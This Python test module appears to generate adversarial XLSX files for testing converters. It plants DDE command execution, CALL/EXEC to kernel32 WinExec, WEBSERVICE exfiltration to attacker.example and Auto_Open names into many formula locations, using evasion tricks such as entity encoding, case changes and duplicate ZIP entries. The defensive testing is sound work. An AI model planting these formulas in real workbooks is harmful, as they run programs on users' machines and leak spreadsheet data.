"""Excel formulas that reach another workbook, a program (DDE), the network or native code,
planted in every place SpreadsheetML lets a formula stand: cells (plain, shared master and
children, array), defined names, conditional formatting (rule formula and colour-scale values),
data validation (formula1/formula2), the x14 extension list (xm:f), table column and totals
formulas, chart series references and pivot cache fields. Also the Strict namespace, content
types differing only in letter case and a sheet part named in odd case."""

from __future__ import annotations

import re
from collections.abc import Callable
from dataclasses import dataclass
from functools import partial

from tests.converters.adversarial.opc import Package, char_refs, xml_text
from tests.converters.adversarial.variants import Variant

SHEET = "xl/worksheets/sheet1.xml"
SHEET_CT = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"
X14 = "http://schemas.microsoft.com/office/spreadsheetml/2009/9/main"
XM = "http://schemas.microsoft.com/office/excel/2006/main"


@dataclass(frozen=True)
class FormulaAttack:
    name: str
    text: str  # as stored in the file (no leading "=")
    encode: str | None = None  # characters written as character references

    def xml(self) -> str:
        return char_refs(self.text, self.encode) if self.encode else xml_text(self.text)


FORMULAS: tuple[FormulaAttack, ...] = (
    FormulaAttack("external-index", "[1]Sheet1!A1"),
    FormulaAttack("external-path", r"'C:\x\[a.xlsx]S'!A1"),
    FormulaAttack("external-unc", r"'\\attacker.example\share\[a.xlsx]S'!A1"),
    FormulaAttack("dde", "cmd|'/c calc'!A0"),
    FormulaAttack("dde-entity-pipe", "cmd|'/c calc'!A0", "|"),
    FormulaAttack("dde-msexcel", r"MSEXCEL|'\..\..\..\Windows\System32\cmd.exe /c calc.exe'!''"),
    FormulaAttack("WEBSERVICE", 'WEBSERVICE("http://attacker.example/q?d="&A1)'),
    FormulaAttack("WEBSERVICE-xlfn", '_xlfn.WEBSERVICE("http://attacker.example/q")'),
    FormulaAttack("WEBSERVICE-entity", '_xlfn.WEBSERVICE("http://attacker.example/q")', "WEBSERVICE"),
    FormulaAttack("WEBSERVICE-lowercase", '_xlfn.webservice("http://attacker.example/q")'),
    FormulaAttack("FILTERXML-WEBSERVICE", '_xlfn.FILTERXML(_xlfn.WEBSERVICE("http://attacker.example/x"),"//a")'),
    FormulaAttack("RTD", 'RTD("attacker.progid",,"topic")'),
    FormulaAttack("IMAGE", '_xlfn.IMAGE("https://attacker.example/a.png")'),
    FormulaAttack("CALL", 'CALL("kernel32","WinExec","JCJ","calc.exe",0)'),
    FormulaAttack("REGISTER.ID", 'REGISTER.ID("kernel32","WinExec","JCJ")'),
    FormulaAttack("EXEC", 'EXEC("calc.exe")'),
    FormulaAttack("_xludf", "_xludf.X(1)"),
    FormulaAttack("HYPERLINK-file", 'HYPERLINK("file:///c:/x/a.exe","開く")'),
    FormulaAttack("HYPERLINK-unc", r'HYPERLINK("\\attacker.example\share\a.exe","開く")'),
    FormulaAttack("HYPERLINK-concat", 'HYPERLINK("fi"&"le:///c:/x/a.exe","開く")'),
    FormulaAttack("WEBSERVICE-leading-equals", '=_xlfn.WEBSERVICE("http://attacker.example/q")'),
)


# --- places: (package, formula as XML text) -> edit ---------------------------------------------
def in_cell(package: Package, x: str) -> None:
    text = package.text(SHEET)
    match = re.search(r"<f( [^>]*)?>B2\*C2</f>", text)  # XlsxWriter writes <f>, LibreOffice <f aca="false">
    if match is None:
        raise KeyError(f"no B2*C2 formula in {SHEET}")
    package.set_text(SHEET, text[:match.start()] + f"<f{match.group(1) or ''}>{x}</f>" + text[match.end():])


def in_shared_master(package: Package, x: str) -> None:
    package.edit(SHEET, "<f>B2*C2</f>", f'<f t="shared" ref="D2:D4" si="0">{x}</f>')
    package.edit(SHEET, "<f>B3*C3</f>", '<f t="shared" si="0"/>')
    package.edit(SHEET, "<f>B4*C4</f>", '<f t="shared" si="0"/>')


def in_shared_child(package: Package, x: str) -> None:
    """A harmless master; the child carries text of its own."""
    package.edit(SHEET, "<f>B2*C2</f>", '<f t="shared" ref="D2:D4" si="0">B2*C2</f>')
    package.edit(SHEET, "<f>B3*C3</f>", f'<f t="shared" si="0">{x}</f>')
    package.edit(SHEET, "<f>B4*C4</f>", '<f t="shared" si="0"/>')


def in_shared_master_last(package: Package, x: str) -> None:
    """Children before their master in document order."""
    package.edit(SHEET, "<f>B2*C2</f>", '<f t="shared" si="0"/>')
    package.edit(SHEET, "<f>B3*C3</f>", '<f t="shared" si="0"/>')
    package.edit(SHEET, "<f>B4*C4</f>", f'<f t="shared" ref="D2:D4" si="0">{x}</f>')


def in_array(package: Package, x: str) -> None:
    package.edit(SHEET, "<f>B2*C2</f>", f'<f t="array" ref="D2">{x}</f>')


def in_defined_name(package: Package, x: str) -> None:
    package.edit("xl/workbook.xml", "<definedNames>",
                 f'<definedNames><definedName name="参照先" hidden="1">{x}</definedName>')


def in_cf(package: Package, x: str) -> None:
    package.edit(SHEET, "<formula>$B2&gt;2</formula>", f"<formula>{x}</formula>")


def in_cfvo(package: Package, x: str) -> None:
    block = (f'<conditionalFormatting sqref="C2:C4"><cfRule type="colorScale" priority="2"><colorScale>'
             f'<cfvo type="formula" val="{x}"/><cfvo type="max"/><color rgb="FFF8696B"/><color rgb="FF63BE7B"/>'
             "</colorScale></cfRule></conditionalFormatting>")
    package.edit(SHEET, "</conditionalFormatting>", "</conditionalFormatting>" + block)


def in_dv1(package: Package, x: str) -> None:
    package.edit(SHEET, "<formula1>ISNUMBER(B2)</formula1>", f"<formula1>{x}</formula1>")


def in_dv2(package: Package, x: str) -> None:
    package.edit(SHEET, "<formula2>1000</formula2>", f"<formula2>{x}</formula2>")


def _ext(package: Package, uri: str, body: str) -> None:
    ext = f'<extLst><ext uri="{uri}" xmlns:x14="{X14}">{body}</ext></extLst>'
    package.insert_before_last(SHEET, "</worksheet>", ext)


def in_x14_dv(package: Package, x: str) -> None:
    _ext(package, "{CCE6A557-97BC-4b89-ADB6-D9C93CAAB3DF}",
         f'<x14:dataValidations count="1" xmlns:xm="{XM}"><x14:dataValidation type="list" allowBlank="1">'
         f"<x14:formula1><xm:f>{x}</xm:f></x14:formula1><xm:sqref>E2</xm:sqref></x14:dataValidation>"
         "</x14:dataValidations>")


def in_x14_cf(package: Package, x: str) -> None:
    _ext(package, "{78C0D931-6437-407d-A8EE-F0AAD7539E65}",
         f'<x14:conditionalFormattings><x14:conditionalFormatting xmlns:xm="{XM}"><x14:cfRule type="expression" '
         'priority="3" id="{00000000-0000-0000-0000-000000000001}">'
         f"<xm:f>{x}</xm:f><x14:dxf/></x14:cfRule><xm:sqref>E2:E4</xm:sqref></x14:conditionalFormatting>"
         "</x14:conditionalFormattings>")


def in_table_column(package: Package, x: str) -> None:
    package.edit("xl/tables/table1.xml", "<calculatedColumnFormula>[[#This Row],金額]*1.1</calculatedColumnFormula>",
                 f"<calculatedColumnFormula>{x}</calculatedColumnFormula>")


def in_table_total(package: Package, x: str) -> None:
    package.edit("xl/tables/table1.xml", '<tableColumn id="2" name="金額" totalsRowFunction="sum"/>',
                 f'<tableColumn id="2" name="金額" totalsRowFunction="custom"><totalsRowFormula>{x}</totalsRowFormula>'
                 "</tableColumn>")


def in_chart(package: Package, x: str) -> None:
    package.edit("xl/charts/chart1.xml", "<c:f>データ!$B$2:$B$4</c:f>", f"<c:f>{x}</c:f>")


def in_pivot_cache(package: Package, x: str) -> None:
    definition = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<pivotCacheDefinition '
        'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" refreshOnLoad="1" '
        'recordCount="0"><cacheSource type="worksheet"><worksheetSource ref="A1:C4" sheet="データ"/></cacheSource>'
        '<cacheFields count="2"><cacheField name="品名" numFmtId="0"><sharedItems/></cacheField>'
        f'<cacheField name="計算" numFmtId="0" formula="{x}" databaseField="0"/></cacheFields>'
        "</pivotCacheDefinition>").encode()
    ct = "application/vnd.openxmlformats-officedocument.spreadsheetml.pivotCacheDefinition+xml"
    rel = package.add_part("xl/pivotCache/pivotCacheDefinition1.xml", definition, ct, "xl/workbook.xml",
                           "pivotCacheDefinition")
    # CT_Workbook puts pivotCaches after calcPr; the base ends with calcPr
    package.insert_before_last("xl/workbook.xml", "</workbook>",
                               f'<pivotCaches><pivotCache cacheId="1" r:id="{rel}"/></pivotCaches>')


def in_sparkline(package: Package, x: str) -> None:
    _ext(package, "{05C60535-1F16-4fd2-B633-F4F36F0B64E0}",
         f'<x14:sparklineGroups xmlns:xm="{XM}"><x14:sparklineGroup displayEmptyCellsAs="gap"><x14:colorSeries '
         'rgb="FF376092"/><x14:sparklines><x14:sparkline>'
         f"<xm:f>{x}</xm:f><xm:sqref>E2</xm:sqref></x14:sparkline></x14:sparklines></x14:sparklineGroup>"
         "</x14:sparklineGroups>")


Place = Callable[[Package, str], None]
PLACES: dict[str, Place] = {
    "cell": in_cell, "shared-master": in_shared_master, "shared-child-text": in_shared_child,
    "shared-master-last": in_shared_master_last, "array": in_array,
    "definedName": in_defined_name, "conditionalFormatting": in_cf, "colorScale-cfvo": in_cfvo,
    "dataValidation-formula1": in_dv1, "dataValidation-formula2": in_dv2, "x14-dataValidation-xm:f": in_x14_dv,
    "x14-conditionalFormatting-xm:f": in_x14_cf, "x14-sparkline-xm:f": in_sparkline,
    "table-calculatedColumnFormula": in_table_column,
    "table-totalsRowFormula": in_table_total, "chart-c:f": in_chart, "pivotCache-cacheField": in_pivot_cache,
}


# --- package-level twists -----------------------------------------------------------------------
def sheet_type_case(package: Package) -> None:
    package.edit("[Content_Types].xml", f'PartName="/{SHEET}" ContentType="{SHEET_CT}"',
                 f'PartName="/{SHEET}" ContentType="{SHEET_CT.replace("worksheet+xml", "WorkSheet+XML")}"')


def workbook_type_case(package: Package) -> None:
    main = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    odd = main.replace("sheet.main", "Sheet.Main")
    package.edit("[Content_Types].xml", f'ContentType="{main}"', f'ContentType="{odd}"')


def sheet_name_case_everywhere(package: Package) -> None:
    package.rename(SHEET, "xl/Worksheets/SHEET1.xml")


def sheet_name_case_entry_only(package: Package) -> None:
    """Only the ZIP entry is renamed; the relationship and the override keep the lower-case name
    (part names compare case-insensitively in OPC)."""
    package.parts = {("xl/worksheets/Sheet1.XML" if n == SHEET else
                      "xl/worksheets/_rels/Sheet1.XML.rels" if n == "xl/worksheets/_rels/sheet1.xml.rels" else n): d
                     for n, d in package.parts.items()}


def duplicate_entry(attack_last: bool, package: Package, before: bytes) -> None:
    """The sheet twice in the ZIP under one name, harmless and planted, in either order (readers
    differ on which entry they take)."""
    planted = package.parts[SHEET]
    if attack_last:
        package.parts[SHEET] = before
        package.extra.append((SHEET, planted))
    else:
        package.extra.append((SHEET, before))


def utf16_sheet(package: Package, before: bytes) -> None:
    package.to_utf16(SHEET)


Twist = Callable[[Package, bytes], None]


def _ignoring_before(edit: Callable[[Package], None]) -> Twist:
    return lambda package, before: edit(package)


TWISTS: dict[str, Twist] = {
    "strict": _ignoring_before(Package.to_strict),
    "sheet-content-type-case": _ignoring_before(sheet_type_case),
    "workbook-content-type-case": _ignoring_before(workbook_type_case),
    "sheet-part-name-case": _ignoring_before(sheet_name_case_everywhere),
    "sheet-zip-entry-case": _ignoring_before(sheet_name_case_entry_only),
    "sheet-utf16": utf16_sheet,
    "duplicate-entry-planted-last": partial(duplicate_entry, True),
    "duplicate-entry-planted-first": partial(duplicate_entry, False),
}

# formulas that only a defined name holds, and names Excel runs when the workbook opens
NAMES: dict[str, str] = {
    "GET.WORKBOOK": '<definedName name="シート一覧">GET.WORKBOOK(1)&amp;T(NOW())</definedName>',
    "GET.CELL": '<definedName name="書式">GET.CELL(48,INDIRECT("rc",FALSE))</definedName>',
    "Auto_Open": '<definedName name="_xlnm.Auto_Open">データ!$A$1</definedName>',
    "Auto_Open-suffix": '<definedName name="Auto_Open_1" hidden="1">データ!$A$1</definedName>',
    "Auto_Open-case": '<definedName name="_XLNM.AUTO_OPEN">データ!$A$1</definedName>',
    "Auto_Open-entity": '<definedName name="&#65;uto_&#x4F;pen">データ!$A$1</definedName>',
    "macro-name-attributes": '<definedName name="実行" function="1" vbProcedure="1" xlm="1">データ!$A$1</definedName>',
}


def _plant(place: Place, formula: FormulaAttack, twist: Twist | None, package: Package) -> None:
    before = package.parts.get(SHEET, b"")
    place(package, formula.xml())
    if twist is not None:
        twist(package, before)


def _name(xml: str, package: Package) -> None:
    package.edit("xl/workbook.xml", "<definedNames>", f"<definedNames>{xml}")


def excel_formula_variants(base: str, full: bool = True) -> list[Variant]:
    out: list[Variant] = []
    for formula in FORMULAS:
        places = PLACES if full else {"cell": in_cell, "definedName": in_defined_name}
        for where, place in places.items():
            out.append(Variant("excel-formula", formula.name, "plain", where, base,
                               partial(_plant, place, formula, None)))
        if not full:
            continue
        for how, twist in TWISTS.items():
            out.append(Variant("excel-formula", formula.name, how, "cell", base,
                               partial(_plant, in_cell, formula, twist)))
        out.append(Variant("excel-formula", formula.name, "strict", "definedName", base,
                           partial(_plant, in_defined_name, formula, TWISTS["strict"])))
        out.append(Variant("excel-formula", formula.name, "strict", "x14-dataValidation-xm:f", base,
                           partial(_plant, in_x14_dv, formula, TWISTS["strict"])))
    if full:
        for name, xml in NAMES.items():
            out.append(Variant("excel-formula", name, "plain", "definedName", base, partial(_name, xml)))
    return out
